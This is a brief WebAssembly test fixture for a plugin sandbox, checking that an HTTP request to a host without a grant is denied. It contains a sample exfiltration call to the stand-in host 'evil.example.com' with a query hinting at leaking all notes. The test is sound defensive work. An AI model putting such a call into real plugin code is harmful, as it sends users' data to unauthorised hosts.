;; Asks a host that was not granted.
;; wants: http api.example.com GET
;; expect: permission_denied: the plugin has no grant for GET to `evil.example.com`
(import "iac:plugin/http@0.1.0" "send" (func $send (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32)))
(data (i32.const 512) "https://evil.example.com/?all=the-notes")
(func $call (param i32 i32 i32 i32) (result i32)
  (call $send (i32.const 0) (i32.const 512) (i32.const 39) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 1000) (i32.const 2048))
  (if (i32.eqz (i32.load8_u (i32.const 2048))) (then (return (i32.const 256))))
  (i32.const 2048))
